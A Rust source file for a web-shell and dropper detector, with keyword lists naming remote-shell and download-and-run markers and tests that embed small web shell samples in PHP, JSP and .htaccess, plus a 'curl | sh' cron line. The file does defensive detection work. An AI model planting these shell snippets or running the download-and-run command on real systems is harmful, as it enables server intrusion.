//! What the content of a file shows: which programs it is for, and what scripts do that web shells and droppers do.
//!
//! Signs explain a finding and raise it; none is a finding by itself, as every administration page runs commands.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, MatchKind};

use crate::roles;

/// What was seen, as a set.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash)]
pub struct Signs(u16);

/// A sign, its name in documents, and what it says.
struct Sign {
    bit: u16,
    name: &'static str,
    says: &'static str,
    texts: &'static [&'static str],
}

const PROGRAM: u16 = 1;
const SCRIPT: u16 = 1 << 1;
const PHP: u16 = 1 << 2;
const COMMANDS: u16 = 1 << 3;
const REQUEST: u16 = 1 << 4;
const EVALUATES: u16 = 1 << 5;
const DECODES: u16 = 1 << 6;
const LOADS: u16 = 1 << 7;
const UPLOADS: u16 = 1 << 8;
const REMOTE: u16 = 1 << 9;
const FETCHES: u16 = 1 << 10;
const PIPES: u16 = 1 << 11;
const HANDLER: u16 = 1 << 12;

/// In the order in which they are told. What languages call their functions are facts of their manuals.
const SIGNS: &[Sign] = &[
    Sign {
        bit: PROGRAM,
        name: "program",
        says: "it is a program",
        texts: &[],
    },
    Sign {
        bit: SCRIPT,
        name: "script",
        says: "it is a script (`#!`)",
        texts: &[],
    },
    Sign {
        bit: PHP,
        name: "php",
        says: "it holds PHP",
        texts: &["<?php", "<?="],
    },
    Sign {
        bit: COMMANDS,
        name: "runs-commands",
        says: "it runs commands",
        texts: &[
            "system(",
            "shell_exec(",
            "passthru(",
            "popen(",
            "proc_open(",
            "pcntl_exec(",
            "exec(",
            "getruntime().exec",
            "processbuilder",
            "process.start(",
            "processstartinfo",
            "wscript.shell",
            "cmd.exe",
            "/bin/sh",
            "/bin/bash",
            "child_process",
            "subprocess.",
            "cfexecute",
        ],
    },
    Sign {
        bit: REQUEST,
        name: "takes-request",
        says: "it takes what the request says",
        texts: &[
            "$_get",
            "$_post",
            "$_request",
            "$_cookie",
            "$_server['http_",
            "$_server[\"http_",
            "php://input",
            "getallheaders(",
            "request.getparameter",
            "request.getheader",
            "request.getinputstream",
            "request.getreader",
            "request.form",
            "request.querystring",
            "request.item[",
            "request[\"",
            "request(\"",
            "request.headers",
            "request.args",
            "req.query",
            "req.body",
            "query_string",
            "cgi.fieldstorage",
            "form.cmd",
            "url.cmd",
        ],
    },
    Sign {
        bit: EVALUATES,
        name: "evaluates",
        says: "it evaluates text as code",
        texts: &[
            "eval(",
            "assert(",
            "create_function(",
            "call_user_func",
            "preg_replace(\"/.*/e",
            "preg_replace('/.*/e",
            "execute(",
            "executeglobal",
            "scriptenginemanager",
            "new function(",
            "$_get[0](",
            "array_map($_",
            "usort($_",
        ],
    },
    Sign {
        bit: DECODES,
        name: "decodes",
        says: "it decodes hidden text",
        texts: &[
            "base64_decode",
            "gzinflate",
            "gzuncompress",
            "str_rot13",
            "hex2bin",
            "convert_uudecode",
            "frombase64string",
            "base64.getdecoder",
            "base64decoder",
            "base64 -d",
            "base64 --decode",
            "b64decode",
            "atob(",
        ],
    },
    Sign {
        bit: LOADS,
        name: "loads-code",
        says: "it loads code at run time",
        texts: &[
            "defineclass",
            "urlclassloader",
            "extends classloader",
            "assembly.load",
            "unsafe.defineanonymousclass",
        ],
    },
    Sign {
        bit: UPLOADS,
        name: "takes-uploads",
        says: "it takes uploads",
        texts: &["move_uploaded_file", "$_files", "file_put_contents(", "saveas("],
    },
    Sign {
        bit: REMOTE,
        name: "remote-shell",
        says: "it opens a shell over the network",
        texts: &[
            "/dev/tcp/",
            "/dev/udp/",
            "bash -i",
            "sh -i",
            "nc -e",
            "ncat -e",
            "pty.spawn",
            "fsockopen(",
            "socat exec",
            "socat tcp",
        ],
    },
    Sign {
        bit: FETCHES,
        name: "downloads",
        says: "it downloads",
        texts: &["curl ", "wget ", "urlretrieve(", "urllib.request"],
    },
    Sign {
        bit: PIPES,
        name: "pipes-to-shell",
        says: "it pipes into a shell",
        texts: &["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash"],
    },
    Sign {
        bit: HANDLER,
        name: "makes-files-code",
        says: "it makes the web server run files as code",
        texts: &[
            "auto_prepend_file",
            "auto_append_file",
            "addhandler",
            "sethandler",
            "addtype application/x-httpd",
        ],
    },
];

/// Bytes of the longest text, less one: what must be kept of one piece for the next.
static OVERLAP: LazyLock<usize> = LazyLock::new(|| {
    let texts = SIGNS.iter().flat_map(|sign| sign.texts);
    texts.map(|text| text.len()).max().unwrap_or(1) - 1
});

/// The texts of all signs, and the sign of each.
static TEXTS: LazyLock<Option<(AhoCorasick, Vec<u16>)>> = LazyLock::new(|| {
    let texts = || {
        SIGNS
            .iter()
            .flat_map(|sign| sign.texts.iter().map(|text| (*text, sign.bit)))
    };
    let automaton = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(texts().map(|(text, _)| text));
    Some((automaton.ok()?, texts().map(|(_, bit)| bit).collect()))
});

impl Signs {
    /// Their names, for documents.
    pub fn names(self) -> Vec<&'static str> {
        self.each().map(|sign| sign.name).collect()
    }

    /// The signs of some names; names that are not known are left out.
    pub fn of_names<'a>(names: impl IntoIterator<Item = &'a str>) -> Self {
        let bit = |name: &str| {
            SIGNS
                .iter()
                .find(|sign| sign.name == name)
                .map_or(0, |sign| sign.bit)
        };
        Self(names.into_iter().fold(0, |bits, name| bits | bit(name)))
    }

    /// What they say, a clause each.
    pub fn told(self) -> Vec<&'static str> {
        self.each().map(|sign| sign.says).collect()
    }

    fn each(self) -> impl Iterator<Item = &'static Sign> {
        SIGNS.iter().filter(move |sign| self.0 & sign.bit != 0)
    }

    fn has(self, bits: u16) -> bool {
        self.0 & bits == bits
    }

    /// Machine code, as the loader would run it.
    pub fn is_program(self) -> bool {
        self.has(PROGRAM)
    }

    /// Text that begins with `#!`.
    pub fn is_script(self) -> bool {
        self.has(SCRIPT)
    }

    /// It does what web shells do: it runs or evaluates what a request says, or what is hidden in it.
    pub fn is_like_web_shell(self) -> bool {
        let acts = self.0 & (COMMANDS | EVALUATES | LOADS) != 0;
        acts && self.0 & (REQUEST | DECODES) != 0 || self.has(UPLOADS | REQUEST) || self.has(HANDLER)
    }

    /// It does what droppers and reverse shells do.
    pub fn is_like_dropper(self) -> bool {
        self.has(REMOTE) || self.has(FETCHES | PIPES) || self.has(DECODES | PIPES)
    }

    /// It holds code that servers of web pages run, whatever its name says.
    pub fn holds_php(self) -> bool {
        self.has(PHP)
    }
}

/// Looks at the content of one file, piece by piece.
pub(crate) struct Detector {
    signs: u16,
    /// What is kept of the pieces before: the start until it tells what the file is, then as much as a text may lie across.
    kept: Vec<u8>,
    /// Whether texts are looked for; known once the first bytes are there.
    looks: Option<bool>,
    wanted: bool,
}

impl Detector {
    /// `path` tells whether the file is one whose texts matter.
    pub(crate) fn new(path: &[u8]) -> Self {
        Self {
            signs: 0,
            kept: Vec::new(),
            looks: None,
            wanted: roles::is_worth_reading(path),
        }
    }

    pub(crate) fn feed(&mut self, piece: &[u8]) {
        match self.looks {
            Some(false) => {}
            Some(true) => {
                let mut text = std::mem::take(&mut self.kept);
                text.extend_from_slice(piece);
                self.look(text);
            }
            None => {
                // Only the start is needed where nothing is looked for, but whether it is, the start tells.
                self.kept.extend_from_slice(piece);
                if self.kept.len() >= 4 {
                    self.decide();
                }
            }
        }
    }

    fn decide(&mut self) {
        let start = std::mem::take(&mut self.kept);
        let kind = match start.as_slice() {
            [0x7f, b'E', b'L', b'F', ..] | [0xcf | 0xce, 0xfa, 0xed, 0xfe, ..] | [0xfe, 0xed, 0xfa, ..] => {
                PROGRAM
            }
            [b'M', b'Z', ..] => PROGRAM,
            [b'#', b'!', ..] => SCRIPT,
            _ => 0,
        };
        self.signs |= kind;
        let looks = kind != PROGRAM && (self.wanted || kind == SCRIPT || start.starts_with(b"<?"));
        self.looks = Some(looks);
        if looks {
            self.look(start);
        }
    }

    fn look(&mut self, mut text: Vec<u8>) {
        if let Some((automaton, bits)) = TEXTS.as_ref() {
            for found in automaton.find_overlapping_iter(&text) {
                self.signs |= bits.get(found.pattern().as_usize()).copied().unwrap_or(0);
            }
        }
        let excess = text.len().saturating_sub(*OVERLAP);
        text.drain(..excess);
        self.kept = text;
    }

    pub(crate) fn finish(mut self) -> Signs {
        if self.looks.is_none() {
            self.decide();
        }
        Signs(self.signs)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signs(path: &str, content: &[u8], piece: usize) -> Signs {
        let mut detector = Detector::new(path.as_bytes());
        for piece in content.chunks(piece) {
            detector.feed(piece);
        }
        detector.finish()
    }

    #[test]
    fn signs_do_not_depend_on_how_the_content_comes() {
        let shell = b"<?php if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); } ?>";
        let whole = signs("var/www/html/x.php", shell, 4096);
        assert!(whole.is_like_web_shell() && whole.holds_php());
        for piece in 1..40 {
            assert_eq!(signs("var/www/html/x.php", shell, piece), whole, "{piece}");
        }
    }

    #[test]
    fn programs_and_plain_pages_are_told_apart_from_shells() {
        assert!(signs("usr/bin/x", b"\x7fELF\x02\x01system(", 3).is_program());
        assert!(!signs("usr/bin/x", b"\x7fELF\x02\x01eval($_POST", 3).is_like_web_shell());
        assert!(signs("etc/cron.d/x", b"#!/bin/sh\ncurl http://a | sh", 4096).is_like_dropper());
        assert!(signs("x", b"#!", 1).is_script());
        let page = signs(
            "var/www/html/index.php",
            b"<?php echo htmlspecialchars($_GET['name']); ?>",
            4096,
        );
        assert!(!page.is_like_web_shell());
        for jsp in [
            "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
            "<% new U(this.getClass().getClassLoader()).g(Base64.getDecoder().decode(request.getReader().readLine())); class U extends ClassLoader {} %>",
        ] {
            assert!(
                signs("usr/local/tomcat/webapps/ROOT/a.jsp", jsp.as_bytes(), 4096).is_like_web_shell(),
                "{jsp}"
            );
        }
        assert!(
            signs(
                "app/public/.htaccess",
                b"AddHandler application/x-httpd-php .jpg",
                7
            )
            .is_like_web_shell()
        );
    }
}
